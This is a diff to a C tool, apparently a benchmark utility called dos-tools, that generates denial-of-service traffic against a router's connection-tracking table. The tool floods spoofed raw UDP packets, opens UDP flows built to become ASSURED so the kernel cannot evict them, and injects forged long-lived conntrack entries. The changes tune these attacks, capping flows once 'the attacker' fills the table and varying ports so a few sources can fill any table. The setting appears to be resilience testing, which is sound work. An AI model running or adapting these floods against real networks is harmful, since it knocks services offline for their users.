@@ -8,17 +8,19 @@
  *       unreplied UDP: raw IP_HDRINCL datagrams from random sources in SRCNET/PREFIXLEN and
  *       random ports to DST, ports 20000-59999 (the server drops them): one new
  *       conntrack entry per packet in the router, never replied, never ASSURED.
- *   dos-tools udpflows DST DPORT SRCNET PREFIXLEN RATE SECONDS
+ *   dos-tools udpflows DST DPORT SRCNET PREFIXLEN RATE SECONDS [TOTAL]
  *       real bidirectional UDP flows: flow i (source SRCNET + i mod hosts, source port
  *       from i) sends one datagram to DST:DPORT (an echo server), and again 2.2 s later,
  *       so the router's entry sees the reply and then a packet after its 2 s stream mark:
- *       it turns ASSURED (120 s stream timeout). RATE new flows per second.
+ *       it turns ASSURED (120 s stream timeout). RATE new flows per second; at most TOTAL
+ *       flows (the attacker stops opening new ones once the table is full of its ASSURED
+ *       flows: new unassured ones would only feed the kernel's early_drop).
  *   dos-tools echo PORT
  *       UDP echo server (recvmmsg / sendmmsg) for udpflows, until killed.
  *   dos-tools ctfill SRCNET PREFIXLEN DST RATE SECONDS [TIMEOUT]
  *       entries created over ctnetlink in the namespace it runs in: TCP ESTABLISHED,
  *       ASSURED|SEEN_REPLY|CONFIRMED, timeout TIMEOUT (default 432000 s), orig
- *       SRC:port -> DST:80, 64 IPCTNL_MSG_CT_NEW messages per send, no ACK (refusals,
+ *       SRC:port -> DST:80 (and further ports when SRCNET is small), 64 IPCTNL_MSG_CT_NEW messages per send, no ACK (refusals,
  *       e.g. table full, come back as errors that are drained and counted).
  *
  * Each prints one JSON line at the end: {"sent":N,"failed":N,"seconds":S,"perSecond":R}.
@@ -188,6 +190,7 @@ static int udpflows(char **a) {
   uint32_t net = addr(a[2]);
   int plen = atoi(a[3]);
   double rate = atof(a[4]), secs = atof(a[5]);
+  unsigned long total = a[6] ? strtoul(a[6], NULL, 10) : 0;
   uint32_t hosts = plen >= 32 ? 1 : (1u << (32 - plen));
   if (rate <= 0) rate = 50000;
   int fd = raw_socket();
@@ -213,7 +216,7 @@ static int udpflows(char **a) {
     }
     if (t < secs) {
       double want = t * rate;
-      while (n < BATCH && (double)created < want) {
+      while (n < BATCH && (double)created < want && (total == 0 || created < total)) {
         uint32_t src;
         uint16_t sport;
         flow_tuple(created++, net, hosts, &src, &sport);
@@ -344,8 +347,10 @@ static int ctfill(char **a, int argc) {
       char *q = p + NLMSG_HDRLEN + NLMSG_ALIGN(sizeof *g);
       uint32_t src = (net & ~(hosts - 1)) | (uint32_t)(i % hosts);
       uint16_t sport = (uint16_t)(1024 + (i / hosts) % 60000);
-      q = tuple(q, CTA_TUPLE_ORIG, src, dst, sport, 80);
-      q = tuple(q, CTA_TUPLE_REPLY, dst, src, 80, sport);
+      /* few sources: vary the destination port too, so 4 sources can fill any table */
+      uint16_t dport = (uint16_t)(80 + (i / ((unsigned long)hosts * 60000u)) % 60000);
+      q = tuple(q, CTA_TUPLE_ORIG, src, dst, sport, dport);
+      q = tuple(q, CTA_TUPLE_REPLY, dst, src, dport, sport);
       uint32_t status = htonl(IPS_ASSURED | IPS_SEEN_REPLY | IPS_CONFIRMED);
       q = put_attr(q, CTA_STATUS, &status, 4);
       uint32_t to = htonl(timeout);
@@ -381,7 +386,7 @@ int main(int argc, char **argv) {
   signal(SIGTERM, on_signal);
   signal(SIGINT, on_signal);
   if (argc >= 7 && strcmp(argv[1], "udpflood") == 0) return udpflood(argv + 2);
-  if (argc >= 8 && strcmp(argv[1], "udpflows") == 0) return udpflows(argv + 2);
+  if (argc >= 8 && strcmp(argv[1], "udpflows") == 0) return udpflows(argv + 2); /* argv[8] (TOTAL) optional: NULL-terminated argv */
   if (argc >= 3 && strcmp(argv[1], "echo") == 0) return echo(argv + 2);
   if (argc >= 7 && strcmp(argv[1], "ctfill") == 0) return ctfill(argv + 2, argc - 2);
   fprintf(stderr, "usage: see the header of bench/dos-tools.c\n");
